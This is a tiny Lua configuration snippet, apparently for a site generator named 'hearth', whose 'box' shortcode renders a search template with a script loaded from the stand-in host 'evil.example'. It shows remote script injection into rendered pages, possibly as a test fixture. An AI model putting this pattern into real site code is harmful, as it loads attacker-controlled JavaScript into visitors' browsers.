shortcodes = {
  box = function(args, page)
    return hearth.render("search", { script = "//evil.example/x.js" })
  end,
}
